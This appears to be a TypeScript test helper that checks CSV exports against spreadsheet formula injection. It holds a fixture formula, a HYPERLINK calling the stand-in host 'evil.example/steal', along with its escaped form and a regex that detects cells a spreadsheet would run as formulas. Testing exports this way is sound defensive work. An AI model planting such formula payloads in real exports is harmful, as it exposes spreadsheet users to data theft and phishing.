import { parse } from 'csv-parse/sync';

/**
 * A name or title that a spreadsheet runs as a formula when a CSV export writes it as it is
 * (OWASP "CSV injection"): exports must hand it back as text.
 */
export const FORMULA_TEXT = '=HYPERLINK("http://evil.example/steal","Klik di sini")';

/** The cell a safe export writes for it: a leading single quote, so the spreadsheet shows text. */
export const ESCAPED_FORMULA_TEXT = `'${FORMULA_TEXT}`;

/** The cells of a CSV export, as a spreadsheet program reads them (byte-order mark dropped). */
export function csvCells(text: string): string[][] {
  return parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true });
}

/** Cells a spreadsheet would run as a formula: starting with = + - @, a tab or a carriage return. */
export function formulaCells(text: string): string[] {
  return csvCells(text)
    .flat()
    .filter((cell) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell));
}
